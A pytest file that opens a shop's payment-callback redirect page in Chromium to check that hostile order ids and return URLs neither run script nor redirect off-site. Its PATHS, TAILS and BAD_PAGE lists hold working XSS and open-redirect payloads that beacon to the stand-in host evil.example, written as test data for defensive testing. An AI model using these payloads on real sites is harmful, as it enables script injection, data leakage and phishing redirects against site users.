"""The page in a real browser: whatever an order's id or return URL holds, it leads to the shop and nowhere else."""

from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Route

from callback.processor import redirect
from tests.functions.test_redirect import FALLBACK, SETTINGS, SHOP
from tests.support.aws import ORDER
from tests.support.programs import chromium

# Measuring doubles the time, and what this goes through is measured elsewhere.
pytestmark = [pytest.mark.enable_socket, pytest.mark.no_cover]

OURS, PLAIN = "https://callback.example/", {"Content-Type": "text/html; charset=utf-8"}
CALL = "navigator.sendBeacon('//evil.example')"
PATHS = [f'/"><script>{CALL}</script>', f"/--></title></style><script>{CALL}</script>", "/';url=http://evil.example/"]
PATHS += [f"/'><img src=x onerror={CALL}>", f'/" onfocus="{CALL}" autofocus', f"/&quot;&gt;&lt;script&gt;{CALL}"]
PATHS += ['/"><meta http-equiv=refresh content="0;url=http://evil.example/">', f'/\0"\0><\0script>{CALL}</script>']
PATHS += ["//evil.example/", "/\\evil.example/", "/\x01\n http://evil.example/", '/"><base href=//evil.example/>']
# What turns the shop's origin into another, were it to follow at once.
TAILS = ["@evil.example/", ".evil.example/", "\\@evil.example/", "\t@evil.example/", "\u3002evil.example/"]
BAD_PAGE = """<script>navigator.sendBeacon('//script.evil.example')</script><img src=//image.evil.example>
<svg onload="navigator.sendBeacon('//svg.evil.example')"></svg><iframe src=//frame.evil.example></iframe>
<style>@import '//style.evil.example';</style><base href=//base.evil.example><img src=/>"""
HOSTS = {f"https://{name}.evil.example/" for name in ("script", "image", "svg", "frame", "style", "base")}


@pytest.fixture(scope="module")
def visit() -> Iterator[Callable[..., list[str]]]:
    """Open a page in one browser, follow where it leads, and return what was asked for; no request leaves it."""
    served, asked = dict[str, Any](), list[str]()

    def answer(route: Route) -> None:
        if route.request.url != OURS:
            asked.append(route.request.url)
        route.fulfill(**served if route.request.url == OURS else {"body": "", "content_type": "text/html"})

    with chromium() as browser:
        page = browser.new_page()
        page.route("**/*", answer)

        def visit(body: object, headers: Any) -> list[str]:
            served.update(body=body, headers=headers)
            asked.clear()
            with page.expect_navigation(url=lambda url: url != OURS, wait_until="load"):
                page.goto(OURS, wait_until="commit")
            return list(asked)

        yield visit


@pytest.mark.parametrize("text", PATHS + TAILS, ids=ascii)
def test_no_text_runs_a_script_or_leads_away(visit: Callable[..., list[str]], text: str) -> None:
    """Behind the shop's origin or as an order id it makes one request, the shop's, even without the policy."""
    leads_to = FALLBACK if text in TAILS else f"{SHOP}/"
    pages = [(redirect(ORDER, f"{SHOP}{text}", SETTINGS), leads_to)]
    pages += [(redirect(text, None, SETTINGS), f"{SHOP}/orders/{quote(text, safe='')}")]
    for page, expected in pages:
        [asked] = visit(page["body"], PLAIN)
        assert asked.startswith(expected)


def test_policy_stops_what_would_get_in(visit: Callable[..., list[str]]) -> None:
    """Without the policy a bad page is seen to ask strangers; with it, it does nothing but lead to the shop."""
    page = f'{BAD_PAGE}<meta http-equiv="refresh" content="0;url={FALLBACK}">'
    assert set(visit(page, PLAIN)) == {*HOSTS, FALLBACK}
    assert visit(page, redirect(ORDER, None, SETTINGS)["headers"]) == [FALLBACK]
